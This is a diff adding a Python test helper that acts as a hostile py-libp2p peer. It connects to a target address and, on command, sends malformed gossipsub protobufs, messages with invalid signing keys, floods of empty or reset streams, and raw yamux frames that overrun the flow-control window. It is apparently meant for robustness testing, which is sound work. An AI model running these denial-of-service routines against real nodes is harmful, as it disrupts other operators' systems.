@@ -1,0 +1,102 @@
+"""A peer that does what is known to end a host of py-libp2p, or to fill it: `python -m … ADDRESS ATTACK NETWORK`.
+
+It runs in a process of its own, since the tests' does not load the library.
+"""
+
+from __future__ import annotations
+
+import os
+import struct
+import sys
+from collections.abc import Awaitable, Callable
+from typing import Any
+
+import trio
+from libp2p import new_host
+from libp2p.crypto.ed25519 import create_new_key_pair
+from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key
+from libp2p.peer.peerinfo import info_from_p2p_addr
+from libp2p.pubsub.pb import rpc_pb2
+from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
+from libp2p.security.noise.transport import Transport
+from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX
+from libp2p.stream_muxer.yamux.yamux import Yamux
+from libp2p.utils import encode_varint_prefixed
+from multiaddr import Multiaddr
+
+MESHSUB = "/meshsub/1.1.0"
+CHUNK = 60_000
+SENT = 64 << 20
+TIMEOUT = 40.0
+DATA_FRAME = struct.Struct("!BBHII")
+
+
+class Attack:
+    """With one connection."""
+
+    def __init__(self, host: Any, peer: Any, network: str) -> None:
+        self.host, self.peer, self.network = host, peer, network
+
+    async def garbage(self) -> None:
+        """No protobuf where one must be, and lengths that never end."""
+        for body in (
+            encode_varint_prefixed(os.urandom(300)),
+            b"\xff" * 64,
+            os.urandom(4000),
+            encode_varint_prefixed(b"\x0a\xff"),
+        ):
+            stream = await self.host.new_stream(self.peer, [MESHSUB])
+            await stream.write(body)
+            await trio.sleep(0.1)
+
+    async def key(self) -> None:
+        """A message signed with what is no key."""
+        stream = await self.host.new_stream(self.peer, [MESHSUB])
+        for key, sender in ((b"\xff\xff", b"\x00\x01x"), (b"\x08\x01\x12\x01x", b""), (b"", b"\xff" * 200)):
+            message = rpc_pb2.Message(
+                data=b"good", topicIDs=[f"{self.network}/blocks/1"], from_id=sender, seqno=b"1", key=key, signature=b"x"
+            )
+            await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
+            await trio.sleep(0.1)
+
+    async def streams(self) -> None:
+        """Streams that say nothing, and some that break off in the middle."""
+        connection = self.host.get_network().get_connections(self.peer)[0]
+        for number in range(200):
+            stream = await connection.new_stream()
+            if number % 3 == 0:
+                await stream.write(b"\x13/multistream/1.0.0\n"[: number % 21])
+            if number % 5 == 0:
+                await stream.reset()
+
+    async def window(self) -> None:
+        """More than the window of its stream allows, by frames that the library would not send."""
+        stream = await self.host.new_stream(self.peer, [f"{self.network}/relay/1"])
+        muxed = stream.muxed_stream
+        frame = DATA_FRAME.pack(0, 0, 0, muxed.stream_id, CHUNK) + bytes(CHUNK)
+        for _ in range(SENT // CHUNK):
+            await muxed.conn._write_frame(frame)
+
+
+async def run(address: str, attack: str, network: str) -> None:
+    key = create_new_key_pair()
+    noise = Transport(key, noise_privkey=create_noise_key().private_key)
+    host = new_host(key_pair=key, sec_opt={NOISE: noise}, muxer_opt={YAMUX: Yamux})
+    host.get_network().set_resource_manager(None)
+    info = info_from_p2p_addr(Multiaddr(address))
+    with trio.move_on_after(TIMEOUT):
+        async with host.run(listen_addrs=[]):
+            await host.connect(info)
+            work: Callable[[], Awaitable[None]] = getattr(Attack(host, info.peer_id, network), attack)
+            print("connected", flush=True)
+            try:
+                await work()
+            except Exception as error:  # noqa: BLE001 - whatever the library makes of being cut off
+                print(f"broken off: {type(error).__name__}", flush=True)
+            await trio.sleep(0.5)
+            print("done", flush=True)
+            os._exit(0)  # an attacker does not say goodbye
+
+
+if __name__ == "__main__":
+    trio.run(run, *sys.argv[1:4])
